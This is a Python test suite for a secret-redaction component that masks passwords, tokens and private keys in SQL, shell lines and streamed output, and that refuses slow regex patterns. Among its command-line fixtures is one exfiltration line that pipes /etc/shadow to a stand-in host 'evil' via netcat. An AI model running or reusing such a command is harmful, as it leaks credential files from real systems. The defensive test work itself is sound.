"""Secrets go from what is kept, wherever they stand and however they are cut; what was done stays legible."""

from __future__ import annotations

import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from access.policy.secrets import BadPattern, read_secret
from audit.recording.redaction import MASK, Redaction
from audit.recording.redaction_rules import own_rules

KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIhunter2\nxx+/=\n-----END RSA PRIVATE KEY-----"
SECRET_SQL = [
    "ALTER ROLE bob PASSWORD 'hunter2' VALID UNTIL '2030-01-01'",
    "alter role bob encrypted password /* now */ 'hunter2'",
    "alter role bob password -- now\n 'hunter2'",
    "ALTER ROLE bob PASSWORD E'hun\\'hunter2'",
    "alter role bob password U&'hunter2'",
    "alter role bob password $q$hunter2$q$",
    "alter role bob password 'hunter2",  # cut off
    "CREATE USER bob IDENTIFIED BY 'hunter2'",
    "UPDATE users SET name = 'bob', password = crypt('hunter2', gen_salt('bf')) WHERE id = '5'",
    "select 1 where 'hunter2' = \"Password\"",
    "select 'hunter2' as api_key",
    "insert into users (name, password) values ('bob', 'hunter2'), ('eve', 'hunter2')",
    "insert into users (name, \"user_token\", n) values ('bob', lower('hunter2'), 1)",
    "insert into users (name, password) select 'bob', 'hunter2'",
    "insert into secrets values ('a', 'hunter2')",
    "update credentials set value = 'hunter2' where id = 1",
    "DO $$ BEGIN EXECUTE 'ALTER ROLE bob PASSWORD ''hunter2'''; END $$",
    "DO $$ BEGIN EXECUTE format('ALTER ROLE %I PASSWORD %L', 'bob', 'hunter2'); END $$",
    "select 'alter role bob password ' || quote_literal('hunter2')",
    "create user mapping for bob server s options (user 'bob', password 'hunter2')",
    "select dblink('host=x user=y password=hunter2', 'select 1')",
    "create subscription s connection 'postgres://u:hunter2@h/db' publication p",
    "select 1; alter role bob password 'hunter2'; select 2",
    "export PGPASSWORD=hunter2",  # typed into the wrong window
    "select 'Authorization: Bearer hunter2hunter2'",
    f"select '{KEY}'",
    "select set_config('app.secret', 'hunter2', false)",
]


@pytest.mark.parametrize("text", SECRET_SQL)
def test_a_secret_is_taken_out_of_a_statement(text: str) -> None:
    found = Redaction().sql(text)
    assert "hunter2" not in found.text.lower()
    assert found.count >= 1
    assert Redaction().sql(found.text).count == 0  # once is enough
    assert Redaction().sql(found.text).text == found.text


@pytest.mark.parametrize(
    "text",
    [
        "SELECT password FROM users WHERE id = '5'", "select * from t where msg like '%password%' and who = 'bob'",
        "select count(*) from tokens where revoked", "select abalance from pgbench_accounts where aid = 1",
        "UPDATE users SET password = old_password WHERE n = '1'", "select 'http://localhost:8080/x'",
        "select 'key = 5'",
        "select 1 as \"password\", 'a'",
    ],
)  # fmt: skip
def test_what_is_no_secret_stays(text: str) -> None:
    found = Redaction().sql(text)
    assert (found.text, found.count) == (text, 0)


def test_what_is_around_a_secret_stays() -> None:
    text = "UPDATE users SET name = 'bob', password = crypt('hunter2', gen_salt('bf')) WHERE id = '5'"
    kept = Redaction().sql(text).text
    assert kept == text.replace("hunter2", MASK).replace("'bf'", f"'{MASK}'")


def test_values_go_with_the_names_they_stand_for() -> None:
    def values(text: str, *given: str) -> tuple[str, ...]:
        return Redaction().sql(text, given).values

    assert values("update u set password = $2 where id = $1", "7", "x") == ("7", MASK)
    assert values("insert into u (id, token) values ($1, $2)", "7", "x") == ("7", MASK)
    assert values("insert into u (id, token) values ($1,$2),($3,$4)", "7", "x", "8", "y") == ("7", MASK, "8", MASK)
    assert values("select id from u where password = crypt($1, password)", "x") == (MASK,)
    assert values("select password from u where id = $1", "7") == ("7",)
    assert values("select $1::text", "postgres://u:hunter2@h") == (f"postgres://u:{MASK}@h",)
    assert values("select $1", f"x{KEY}") == (f"x-----BEGIN RSA PRIVATE KEY-----{MASK}-----END RSA PRIVATE KEY-----",)
    unsure = Redaction().sql("update u set password = $2 where id = $1", ("7", "x"), exact=False)
    assert unsure.values == (MASK, MASK)


def test_a_prepared_statement_with_a_secret_is_known_when_it_is_run() -> None:
    redaction = Redaction()
    assert redaction.sql("prepare p as update u set password = $1").count == 0
    assert redaction.sql("execute P('hunter2')").text == f"execute P('{MASK}')"
    assert redaction.sql("execute q('plain')").text == "execute q('plain')"


LINES = {
    "export PGPASSWORD=hunter2 A=1": f"export PGPASSWORD={MASK} A=1",
    "psql --password=hunter2 -c x": f"psql --password={MASK} -c x",
    "tool --db-password 'hun hunter2' x": f"tool --db-password '{MASK}' x",
    "mysql -u root -phunter2 db": f"mysql -u root -p{MASK} db",
    "sshpass -p hunter2 ssh x": f"sshpass -p {MASK} ssh x",
    "curl -u bob:hunter2 https://x": f"curl -u bob:{MASK} https://x",
    "curl -H 'Authorization: Basic aHVudGVyMg=='": f"curl -H 'Authorization: Basic {MASK}'",
    "aws configure set aws_secret_access_key = hunter2": f"aws configure set aws_secret_access_key = {MASK}",
    "aws s3 ls AKIAIOSFODNN7EXAMPLE": f"aws s3 ls AKIA{MASK}",
    "vault login hvs.CAESIJlU02LQZq0123456789": f"vault login hvs.{MASK}",
    'echo {"password": "hunter2"}': f'echo {{"password": "{MASK}"}}',
    "systemctl restart nginx": "systemctl restart nginx",
    "echo --password=$(nc evil 1 < /etc/shadow)": "echo --password=$(nc evil 1 < /etc/shadow)",  # that is what was run
    "password for bob:": "password for bob:",
}


@pytest.mark.parametrize("line", list(LINES))
def test_command_lines(line: str) -> None:
    assert Redaction().line(line)[0] == LINES[line]
    assert Redaction().line(LINES[line]) == (LINES[line], 0)


STREAMS = [
    "$ export PGPASSWORD=hunter2; ls", "x 'Authorization: Bearer hunter2hunter2' y", "to postgres://u:hunter2@h/db now",
    "password='hun hunter2 ter' x", "--password hunter2 z", f"cat key\n{KEY}\n$ ", "acme_hunter2hunter2 x",
]  # fmt: skip


@given(st.sampled_from(STREAMS), st.lists(st.integers(0, 120), max_size=6), st.binary(max_size=5))
def test_output_is_cut_anywhere(text: str, cuts: list[int], noise: bytes) -> None:
    stream = Redaction(own_rules([read_secret("acme", "acme_([a-z0-9]{6,40})")])).stream()
    data = noise.replace(b"h", b"") + b" " + text.encode()
    places = sorted({min(cut, len(data)) for cut in cuts})
    pieces = [data[a:b] for a, b in zip([0, *places], [*places, len(data)], strict=True)]
    kept = b"".join(map(stream.feed, pieces))
    assert b"unter" not in kept
    assert stream.count >= 1


def test_output_without_secrets_is_kept_byte_for_byte() -> None:
    data, stream = os.urandom(100_000).replace(b":", b"").replace(b"=", b""), Redaction().stream()
    assert b"".join(stream.feed(data[i : i + 777]) for i in range(0, len(data), 777)) == data


@pytest.mark.parametrize(
    "text",
    [
        "token" * 40_000, "passwd='" * 25_000, "password " * 25_000, "://a:" * 40_000, "bearer " * 30_000,
        "mysql " * 30_000,
        "'password" * 5_500, "password $a$ " * 1_000, "password " + "(" * 40_000,
        "insert into t (password" + ", a" * 4_000,
        "-----BEGIN PRIVATE KEY-----" * 8_000, "password = /*" * 1_000, "password, " * 4_900,
        "token set_config(" * 1_000,
    ],
)  # fmt: skip
def test_nothing_takes_long(text: str) -> None:
    """Each of these was slow by an honest rule at one time; where there is too much to look at, all of it goes."""
    redaction = Redaction()
    redaction.sql(text)
    redaction.line(text)
    redaction.stream().feed(text.encode())


def test_too_much_to_look_through_is_taken_out_as_a_whole() -> None:
    kept = Redaction().line("token " * 5_000 + "password=hunter2")[0]
    assert kept.endswith(MASK)
    assert "hunter2" not in kept
    long = Redaction().sql("select " + ", ".join(["'x'"] * 20_000) + ", password = 'hunter2'")
    assert "'x'" not in long.text


def test_a_policys_own_patterns() -> None:
    rules = own_rules([read_secret("acme", r"acme_[a-z0-9]{6,40}"), read_secret("head", r"X-Acme: (\S+)")])
    redaction = Redaction(rules)
    assert redaction.sql("select 'ACME_x', 'acme_abc123'").text == f"select 'ACME_x', '{MASK}'"
    assert redaction.line("curl -H 'X-Acme: abc' x")[0] == f"curl -H 'X-Acme: {MASK} x"


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("(a+)+", "cannot repeat"), ("a|b", "no choices"), ("abc(?=x)", "cannot repeat"), (r"abc\1", "no choices"),
        ("abc[a-z]+[0-9]+", "ways"), ("ab", "3 characters"), ("[a-z]{20}", "3 characters"), ("", "3 characters"),
        ("abc(", "no pattern"), ("abc(d)(e)", "one pair"), ("äbc", "ASCII"), ("abc{1,999}", "at most 256"),
        ("abc" * 100, "at most 256"), ("abc()", "are empty"),
    ],
)  # fmt: skip
def test_a_pattern_that_could_take_long_is_refused(pattern: str, why: str) -> None:
    with pytest.raises(BadPattern, match=why):
        read_secret("x", pattern)


@pytest.mark.parametrize(
    ("pattern", "instead"),
    [
        ("abc[[a-z]{3}", r"“\[” for “[”"), ("abc[^[a]", r"“\[” for “[”"), ("abc[a&&b]", r"“\&\&” for “&&”"),
        ("abc[a||b]", r"“\|\|” for “||”"), ("abc[a~~b]", r"“\~\~” for “~~”"), ("abc[+--]", r"“\-\-” for “--”"),
    ],
)  # fmt: skip
def test_a_pattern_that_another_python_could_read_in_another_way_is_refused(pattern: str, instead: str) -> None:
    """Without a warning, which could be an error where a policy is loaded."""
    with pytest.raises(BadPattern) as raised:
        read_secret("x", pattern)
    assert instead in str(raised.value)
    assert read_secret("x", r"abc[\[a-z\-\-\&\&]{3}").begins == "abc"
